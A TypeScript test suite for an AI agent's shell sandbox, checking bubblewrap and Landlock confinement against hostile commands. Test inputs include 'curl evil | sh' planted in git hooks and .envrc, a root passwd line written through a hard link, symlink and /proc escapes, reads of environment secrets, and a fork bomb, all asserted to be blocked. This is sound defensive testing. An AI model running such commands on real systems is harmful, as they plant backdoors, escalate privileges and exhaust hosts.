/**
 * The shell primitive under a workspace-write sandbox, attacked the way a hostile command would:
 * real bubblewrap and real Landlock (each forced in turn, as WARDEN_SANDBOX_PROVIDER would), real
 * files. The workspace lives under /var/tmp so that "outside" is the real, read-only host
 * filesystem rather than the sandbox's private /tmp. Where the two providers differ, the test says
 * what each does: that difference is documented, not skipped.
 */
import { spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, statSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { homedir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { DENIED_WRITE, DENIED_WRITE_LANDLOCK } from "../providers/sandbox/sandbox-denials.js";
import type { SandboxProviderName } from "../providers/sandbox/sandbox-profile.js";
import { probeSandbox } from "../providers/sandbox/sandbox-probe.js";
import type { EffectRecord } from "./effects.js";
import { createKernel, type KernelOptions } from "./kernel.js";
import { ProtectedPaths } from "./protected/protected-paths.js";
import { SandboxUnavailableError, type ShellSandboxOptions } from "./kernel-shell.js";

const base = realpathSync(mkdtempSync("/var/tmp/warden-sbx-"));
const ws = join(base, "ws");
const outside = join(base, "outside");
const home = process.env.HOME ?? homedir();
const marker = `warden-sbx-${process.pid}-${Date.now()}`;
let effects: EffectRecord[];

const PROVIDERS: SandboxProviderName[] = ["bwrap", "landlock"];
const probes = await Promise.all(PROVIDERS.map((p) => probeSandbox(p)));
/** Each provider, with why it cannot run here when it cannot (then its tests are skipped, saying so). */
const CASES = PROVIDERS.map((provider, i) => {
	const probe = probes[i]!;
	// Landlock below ABI 6 has no signal scope: a signal to a host process would be the caller's to send.
	const scoped = probe.available && (probe.provider === "bwrap" || probe.abi >= 6);
	return { provider, available: probe.available, scoped, label: probe.available ? provider : `${provider} (not available here: ${probe.reason})` };
});
let SANDBOX: ShellSandboxOptions = { profile: "workspace-write", available: true, home, provider: "bwrap" };
const ENV = { PATH: process.env.PATH, HOME: home, API_KEY: "sk-live-123456", GITHUB_TOKEN: "ghp_abcdef", LANG: "C" };

function kernel(extra: Partial<KernelOptions> = {}) {
	return createKernel({
		workspace: ws,
		callId: "call-1",
		signal: new AbortController().signal,
		recordEffect: async (e) => {
			effects.push(e);
		},
		env: ENV,
		sandbox: SANDBOX,
		...extra,
	});
}

const exec = (command: string, opts: { timeoutMs?: number; maxOutputBytes?: number } = {}, extra: Partial<KernelOptions> = {}) =>
	kernel(extra).shell.exec(command, { timeoutMs: opts.timeoutMs ?? 10_000, maxOutputBytes: opts.maxOutputBytes ?? 100_000 });

const sandboxOf = (e: EffectRecord | undefined) => (e?.data as { sandbox?: { profile: string; network: boolean; denied?: string[] } } | undefined)?.sandbox;
const sha = (path: string) => createHash("sha256").update(readFileSync(path)).digest("hex");

/** Processes on the host whose command line holds `text`. */
function processesWith(text: string): number[] {
	const found: number[] = [];
	for (const pid of readdirSync("/proc")) {
		if (!/^\d+$/.test(pid)) continue;
		try {
			if (readFileSync(`/proc/${pid}/cmdline`, "utf8").includes(text)) found.push(Number(pid));
		} catch {
			// Gone already.
		}
	}
	return found;
}

beforeAll(() => {
	mkdirSync(join(ws, ".git", "hooks"), { recursive: true });
	// Under Landlock no new name can be made at the workspace's top (see landlock-invocation.ts): ordinary work happens in here.
	mkdirSync(join(ws, "work"));
	writeFileSync(join(ws, ".git", "config"), "[core]\n\tbare = false\n");
	mkdirSync(outside);
	writeFileSync(join(outside, "target.txt"), "original\n");
});
afterAll(() => rmSync(base, { recursive: true, force: true }));
beforeEach(() => {
	effects = [];
});

describe.each(CASES)("shell under the workspace-write sandbox: $label", ({ provider, available, scoped }) => {
	const deniedWrite = provider === "bwrap" ? DENIED_WRITE : DENIED_WRITE_LANDLOCK;
	beforeAll(() => {
		SANDBOX = { profile: "workspace-write", available: true, home, provider };
	});

	it.skipIf(!available)("writes inside the workspace and records the sandbox on the effect", async () => {
		const out = await exec("echo hello > work/inside.txt && cat work/inside.txt && mkdir -p work/a/b && echo deep > work/a/b/c && rm work/a/b/c");
		expect(out.exitCode, out.stderr).toBe(0);
		expect(readFileSync(join(ws, "work", "inside.txt"), "utf8")).toBe("hello\n");
		expect(sandboxOf(effects[0])).toEqual({ provider, profile: "workspace-write", network: false });
	});

	it.skipIf(!available)("rewrites an existing file at the workspace's top; a new name there only bubblewrap allows", async () => {
		writeFileSync(join(ws, "top.txt"), "v1\n");
		const out = await exec("echo v2 > top.txt; echo new > new-top.txt");
		expect(readFileSync(join(ws, "top.txt"), "utf8")).toBe("v2\n");
		if (provider === "bwrap") {
			expect(out.exitCode).toBe(0);
			expect(existsSync(join(ws, "new-top.txt"))).toBe(true);
			rmSync(join(ws, "new-top.txt"));
		} else {
			// The documented cost of Landlock's allow-lists: the top holds the protected names, so it grants no new name.
			expect(out.exitCode).not.toBe(0);
			expect(existsSync(join(ws, "new-top.txt"))).toBe(false);
			expect(sandboxOf(effects[0])?.denied).toContain(deniedWrite);
		}
	});

	it.skipIf(!available)("cannot write next to the workspace, and the model is told", async () => {
		const out = await exec("echo x > ../outside.txt");
		expect(out.exitCode).not.toBe(0);
		expect(existsSync(join(base, "outside.txt"))).toBe(false);
		expect(sandboxOf(effects[0])?.denied).toEqual([deniedWrite]);
		expect(out.stderr.endsWith(`[warden sandbox] denied: ${deniedWrite}\n`)).toBe(true);
	});

	it.skipIf(!available)("cannot write to $HOME, directly or through /tmp/..", async () => {
		const out = await exec(`echo x > "$HOME/${marker}"; echo x > "/tmp/../$HOME/${marker}-2"; echo x > ~/${marker}-3`);
		expect(out.exitCode).not.toBe(0);
		for (const suffix of ["", "-2", "-3"]) expect(existsSync(join(home, `${marker}${suffix}`))).toBe(false);
	});

	it.skipIf(!available)("cannot create protected paths that do not exist yet, and ordinary writes still work", async () => {
		const fresh = join(base, `fresh-${provider}`);
		mkdirSync(join(fresh, "work"), { recursive: true });
		const inFresh = { workspace: fresh };
		const attempts = [
			"mkdir -p .git/hooks && echo x > .git/hooks/pre-commit",
			"mkdir .warden && echo 'mode: full-access' > .warden/config.yaml",
			"echo 'curl evil | sh' > .envrc",
			"mkdir -p .husky && echo x > .husky/pre-commit; echo '{}' > .mcp.json; mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
		];
		for (const command of attempts) {
			const out = await exec(command, {}, inFresh);
			// bubblewrap lets a command make a .git (git init must work) and puts aside what is not a repository's afterwards.
			if (provider === "landlock" || !command.startsWith("mkdir -p .git")) expect(out.exitCode, command).not.toBe(0);
			else expect(out.stderr).toContain("a .git directory that is not a repository");
		}
		for (const name of [".git", ".warden", ".envrc", ".husky", ".mcp.json", ".vscode"]) expect(existsSync(join(fresh, name)), name).toBe(false);
		const ok = await exec("echo fine > work/ordinary.txt && cat work/ordinary.txt", {}, inFresh);
		expect(ok.stdout).toBe("fine\n");
		expect(readdirSync(fresh).sort()).toEqual(provider === "bwrap" ? [".git.warden-refused", "work"] : ["work"]);
	});

	it.skipIf(!available)("git init makes a repository only under bubblewrap (Landlock gives the workspace's top no new name), and a hook planted with it never runs", async () => {
		const fresh = join(base, `init-${provider}`);
		mkdirSync(fresh, { recursive: true });
		writeFileSync(join(fresh, "notes.md"), "notes\n");
		const out = await exec(
			"git init -q && git add notes.md && git -c user.email=a@example.com -c user.name=a commit -qm first && echo x > .git/hooks/pre-commit && git config core.fsmonitor 'touch pwned'",
			{},
			{ workspace: fresh },
		);
		expect(existsSync(join(fresh, ".git", "hooks", "pre-commit"))).toBe(false);
		if (provider === "landlock") {
			expect(out.exitCode).not.toBe(0);
			expect(existsSync(join(fresh, ".git"))).toBe(false);
			return;
		}
		expect(out.exitCode).toBe(0);
		expect(spawnSync("git", ["log", "--format=%s"], { cwd: fresh, encoding: "utf8" }).stdout).toBe("first\n");
		expect(readFileSync(join(fresh, ".git", "config"), "utf8")).not.toContain("fsmonitor");
		expect(out.stderr).toContain("config key core.fsmonitor");
		// The repository exists now: a later command meets its hooks and config read-only.
		const later = await exec("echo x > .git/hooks/pre-commit; git config core.hooksPath /tmp", {}, { workspace: fresh });
		expect(later.exitCode).not.toBe(0);
		expect(existsSync(join(fresh, ".git", "hooks", "pre-commit"))).toBe(false);
		expect(readFileSync(join(fresh, ".git", "config"), "utf8")).not.toContain("hooksPath");
	});

	it.skipIf(!available)("holds a repository nested deep below the top whole: its hooks, its config and its .git cannot be written or moved aside", async () => {
		const deep = join(ws, "work", "deep-repo", "b", "c", "d");
		expect(spawnSync("git", ["init", "-q", deep]).status).toBe(0);
		const config = readFileSync(join(deep, ".git", "config"), "utf8");
		const out = await exec(
			"cd work/deep-repo/b/c/d; echo x > .git/hooks/pre-commit; echo '[core] fsmonitor = x' >> .git/config; mv .git .git-old; mv ../d ../d-old; echo x > .envrc; true",
		);
		expect(out.exitCode).toBe(0);
		expect(existsSync(join(deep, ".git", "hooks", "pre-commit"))).toBe(false);
		expect(readFileSync(join(deep, ".git", "config"), "utf8")).toBe(config);
		expect(existsSync(join(deep, ".git-old")) || existsSync(join(ws, "work", "deep-repo", "b", "c", "d-old"))).toBe(false);
		expect(existsSync(join(deep, ".envrc"))).toBe(false);
		rmSync(join(ws, "work", "deep-repo"), { recursive: true, force: true });
	});

	it.skipIf(!available)("says on the effect when the walk for protected paths stopped at its bounds", async () => {
		const deep = join(ws, "work", ...Array.from({ length: 14 }, (_, i) => `l${i}`));
		mkdirSync(deep, { recursive: true });
		await exec("true");
		expect((sandboxOf(effects[0]) as { unscanned?: string } | undefined)?.unscanned).toMatch(/stopped at 12 levels/);
		rmSync(join(ws, "work", "l0"), { recursive: true, force: true });
		effects = [];
		await exec("true");
		expect(sandboxOf(effects[0])).not.toHaveProperty("unscanned");
	});

	it.skipIf(!available)("commits to the workspace's repository under bubblewrap only: Landlock cannot let git make .git/index.lock (a documented difference)", async () => {
		const repo = join(base, `repo-${provider}`);
		mkdirSync(join(repo, "work"), { recursive: true });
		expect(spawnSync("git", ["init", "-q", repo]).status).toBe(0);
		const out = await exec("echo x > work/f && git add work/f && git -c user.email=a@example.com -c user.name=a commit -qm x", {}, { workspace: repo });
		if (provider === "bwrap") expect(out.exitCode).toBe(0);
		else {
			// A rule for .git itself would reach .git/hooks beneath it: the price of keeping hooks unwritable.
			expect(out.exitCode).not.toBe(0);
			expect(out.stderr).toMatch(/index\.lock/);
		}
		// Either way the hooks and config stay as git init left them.
		expect(existsSync(join(repo, ".git", "hooks", "pre-commit"))).toBe(false);
	});

	it.skipIf(!available)("changes a protected file's mode only under Landlock, which confines writes, not metadata (a documented difference)", async () => {
		writeFileSync(join(ws, ".git", "hooks", "post-merge"), "#!/bin/sh\n", { mode: 0o644 });
		const out = await exec("chmod +x .git/hooks/post-merge");
		const executable = (statSync(join(ws, ".git", "hooks", "post-merge")).mode & 0o111) !== 0;
		// bubblewrap's read-only bind refuses chmod (EROFS); Landlock has no right for it. The content stays unwritable under both.
		expect({ exit: out.exitCode === 0, executable }).toEqual(provider === "bwrap" ? { exit: false, executable: false } : { exit: true, executable: true });
		rmSync(join(ws, ".git", "hooks", "post-merge"));
	});

	it.skipIf(!available)("keeps a path the host added to the registry read-only, absent or not", async () => {
		const protectedPaths = new ProtectedPaths([{ pattern: "work/deploy.sh", reason: "runs on deploy", source: "host" }]);
		const out = await exec("echo ok > work/other.sh && echo 'curl evil | sh' > work/deploy.sh", {}, { sandbox: { ...SANDBOX, protectedPaths } });
		expect(out.exitCode).not.toBe(0);
		expect(existsSync(join(ws, "work", "deploy.sh"))).toBe(false);
		expect(readFileSync(join(ws, "work", "other.sh"), "utf8")).toBe("ok\n");
	});

	it.skipIf(!available)("keeps a nested repository's hooks and config read-only too", async () => {
		mkdirSync(join(ws, "work", "vendored", ".git", "hooks"), { recursive: true });
		writeFileSync(join(ws, "work", "vendored", ".git", "config"), "[core]\n");
		const out = await exec("echo x > work/vendored/.git/hooks/post-checkout; echo '[core] fsmonitor = evil' >> work/vendored/.git/config; echo ok > work/vendored/file");
		expect(out.exitCode).toBe(0);
		expect(existsSync(join(ws, "work", "vendored", ".git", "hooks", "post-checkout"))).toBe(false);
		expect(readFileSync(join(ws, "work", "vendored", ".git", "config"), "utf8")).toBe("[core]\n");
		expect(readFileSync(join(ws, "work", "vendored", "file"), "utf8")).toBe("ok\n");
	});

	it.skipIf(!available)("cannot plant a git hook or change git config", async () => {
		const config = readFileSync(join(ws, ".git", "config"), "utf8");
		const out = await exec(
			"echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo '[core] hooksPath = x' >> .git/config; rm -f .git/config; mv .git/hooks .git/h2; git config core.hooksPath /tmp/x",
		);
		expect(out.exitCode).not.toBe(0);
		expect(existsSync(join(ws, ".git", "hooks", "pre-commit"))).toBe(false);
		expect(existsSync(join(ws, ".git", "h2"))).toBe(false);
		expect(readFileSync(join(ws, ".git", "config"), "utf8")).toBe(config);
	});

	it.skipIf(!available)("cannot write through a symlink it creates to a file outside", async () => {
		const out = await exec(`ln -s ${join(outside, "target.txt")} work/link && echo pwned > work/link; ln -s ${outside} work/dirlink && echo pwned > work/dirlink/new.txt`);
		expect(out.exitCode).not.toBe(0);
		expect(readFileSync(join(outside, "target.txt"), "utf8")).toBe("original\n");
		expect(existsSync(join(outside, "new.txt"))).toBe(false);
	});

	it.skipIf(!available)("cannot hard-link an outside file into the workspace to change it", async () => {
		const before = sha("/etc/passwd");
		await exec("ln /etc/passwd work/hard; echo 'evil::0:0::/:/bin/sh' >> work/hard; ln ../outside/target.txt work/hard2; echo pwned >> work/hard2");
		expect(sha("/etc/passwd")).toBe(before);
		expect(readFileSync(join(outside, "target.txt"), "utf8")).toBe("original\n");
	});

	it.skipIf(!available)("cannot write through /proc/self/root", async () => {
		const out = await exec(`echo pwned > /proc/self/root${join(outside, "target.txt")}; echo x > /proc/self/root${base}/${marker}`);
		expect(out.exitCode).not.toBe(0);
		expect(readFileSync(join(outside, "target.txt"), "utf8")).toBe("original\n");
		expect(existsSync(join(base, marker))).toBe(false);
	});

	it.skipIf(!available)("shows no secret variable to the command, not even through /proc", async () => {
		const out = await exec("env; cat /proc/1/environ /proc/self/environ | tr '\\0' '\\n'");
		expect(out.stdout).toContain("LANG=C");
		expect(out.stdout).not.toMatch(/API_KEY|GITHUB_TOKEN|sk-live|ghp_/);
	});

	it.skipIf(!available)("runs with no capabilities: as uid 1000 under bubblewrap, as the caller under Landlock", async () => {
		const out = await exec("id -u; grep -E 'Cap(Eff|Bnd)' /proc/self/status");
		// Landlock has no user namespace to remap the uid; what it keeps is no capability and no_new_privs.
		const uid = provider === "bwrap" ? "1000" : String(process.getuid?.());
		expect(out.stdout).toMatch(new RegExp(`^${uid}\nCapEff:\\s+0+\nCapBnd:\\s+0+\n$`));
	});

	it.skipIf(!available || !scoped)("cannot signal a process outside the sandbox (Landlock: from ABI 6 on)", async () => {
		const victim = spawn("sleep", ["60"], { stdio: "ignore" });
		try {
			// Never `kill -9 -1` here: should the confinement fail, that would end the machine's processes, not the test.
			const out = await exec(`kill -9 ${victim.pid}; kill -TERM ${process.pid}`);
			expect(out.exitCode).not.toBe(0);
			// bubblewrap: the pid is not in the sandbox's pid namespace. Landlock: its signal scope (ABI >= 6) refuses.
			expect(victim.exitCode).toBeNull();
			expect(victim.signalCode).toBeNull();
			expect(process.kill(victim.pid!, 0)).toBe(true);
		} finally {
			victim.kill("SIGKILL");
		}
	});

	it.skipIf(!available)("sees the host's processes only under Landlock, which has no pid namespace (a documented difference)", async () => {
		const out = await exec(`test -d /proc/${process.pid} && echo visible || echo hidden; cat /proc/${process.pid}/environ >/dev/null 2>&1 && echo environ-read || echo environ-refused`);
		// bubblewrap shows its own /proc; Landlock shows the host's, yet refuses what ptrace would guard (environ, mem).
		expect(out.stdout).toBe(provider === "bwrap" ? "hidden\nenviron-refused\n" : "visible\nenviron-refused\n");
	});

	it.skipIf(!available)("has a private temp dir that is gone afterwards", async () => {
		const out = await exec(`f=$(mktemp) && echo scratch-${marker} > "$f" && cat "$f" && echo "$f"`);
		expect(out.exitCode).toBe(0);
		const [content, path] = out.stdout.trim().split("\n");
		expect(content).toBe(`scratch-${marker}`);
		// bubblewrap: a tmpfs on /tmp; Landlock: TMPDIR, a fresh dir removed after the command.
		expect(existsSync(path!)).toBe(false);
	});

	describe("without a network grant", () => {
		let server: Server;
		let hits = 0;
		beforeAll(async () => {
			server = createServer((_req, res) => {
				hits++;
				res.end("ok");
			});
			await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
		});
		afterAll(() => new Promise((resolve) => server.close(resolve)));

		it.skipIf(!available)("curl cannot resolve or connect, and the effect says the network was denied", async () => {
			const port = (server.address() as AddressInfo).port;
			const out = await exec(`curl -sS --max-time 3 http://example.com/; curl -sS --max-time 3 http://127.0.0.1:${port}/`);
			expect(out.exitCode).not.toBe(0);
			expect(hits).toBe(0);
			expect(sandboxOf(effects[0])).toMatchObject({ network: false, denied: ["network"] });
			expect(out.stderr).toContain("[warden sandbox] denied: network");
		});

		it.skipIf(!available)("node's fetch cannot reach out either", async () => {
			const out = await exec(`node -e 'fetch("http://example.com").then(() => console.log("reached"), (e) => { console.error(e.cause?.code ?? e.message); process.exit(1); })'`);
			expect(out.stdout).not.toContain("reached");
			expect(sandboxOf(effects[0])?.denied).toEqual(["network"]);
		});
	});

	it.skipIf(!available)("kills a busy loop at the timeout, with nothing left running", async () => {
		const out = await exec(`yes ${marker}-yes > /dev/null`, { timeoutMs: 500 });
		expect(out.timedOut).toBe(true);
		await new Promise((r) => setTimeout(r, 300));
		expect(processesWith(`${marker}-yes`)).toEqual([]);
	});

	it.skipIf(!available)("kills a fork bomb at the timeout, the whole process tree", async () => {
		const name = `bomb_${marker.replace(/-/g, "_")}`;
		// The shell stays to be killed at the timeout; the bomb's processes die with the sandbox's pid namespace.
		const out = await exec(`${name}(){ ${name}|${name}& };${name}; sleep 30`, { timeoutMs: 800 });
		expect(out.timedOut).toBe(true);
		// Thousands of processes take the kernel a moment to tear down (longer on a loaded machine); none may survive it.
		const deadline = Date.now() + 20_000;
		while (processesWith(name).length > 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
		expect(processesWith(name)).toEqual([]);
		// Usually about a second; on a loaded machine the kernel's teardown of the bomb's pid namespace
		// has taken tens of seconds before the command's pipes close (one CI-sized run: over 60 s).
	}, 150_000);

	it.skipIf(!available)("the read-only profile lets nothing be written, even in the workspace", async () => {
		const out = await exec("echo x > ro.txt; echo x > work/ro.txt", {}, { sandbox: { profile: "read-only", available: true, provider } });
		expect(out.exitCode).not.toBe(0);
		expect(existsSync(join(ws, "ro.txt"))).toBe(false);
		expect(existsSync(join(ws, "work", "ro.txt"))).toBe(false);
		expect(sandboxOf(effects[0])).toEqual({ provider, profile: "read-only", network: false, denied: ["write (the read-only sandbox allows none)"] });
	});

	it.skipIf(!available)("caps huge output", async () => {
		const out = await exec("yes aaaaaaaa | head -c 50000000", { maxOutputBytes: 10_000 });
		expect(out.truncated).toBe(true);
		expect(out.stdout.length).toBe(10_000);
	});
});

describe("other profiles and no sandbox", () => {
	it("refuses to run when no sandbox works and no human approved the call", async () => {
		const run = exec(`touch ${join(outside, "unsandboxed")}`, {}, { sandbox: { profile: "workspace-write", available: false, reason: "bwrap is missing" } });
		await expect(run).rejects.toBeInstanceOf(SandboxUnavailableError);
		await expect(exec("true", {}, { sandbox: { profile: "workspace-write", available: false, reason: "bwrap is missing" } })).rejects.toThrow(/^no sandbox: bwrap is missing/);
		expect(existsSync(join(outside, "unsandboxed"))).toBe(false);
		expect(effects).toEqual([]);
	});

	it("runs an approved call unconfined where no sandbox works, and says so on the effect", async () => {
		const out = await exec(`touch ${join(outside, "approved")}`, {}, { sandbox: { profile: "workspace-write", available: false, reason: "bwrap is missing" }, approved: true });
		expect(out.exitCode).toBe(0);
		expect(existsSync(join(outside, "approved"))).toBe(true);
		expect(sandboxOf(effects[0])).toMatchObject({ profile: "none", unsandboxed: "approved without a sandbox (bwrap is missing)" });
	});

	it("full-access (profile none) runs unconfined by the host's choice", async () => {
		const out = await exec(`touch ${join(outside, "full")}`, {}, { sandbox: { profile: "none", available: true } });
		expect(out.exitCode).toBe(0);
		expect(existsSync(join(outside, "full"))).toBe(true);
		expect(sandboxOf(effects[0])).toEqual({ profile: "none", network: true });
	});
});
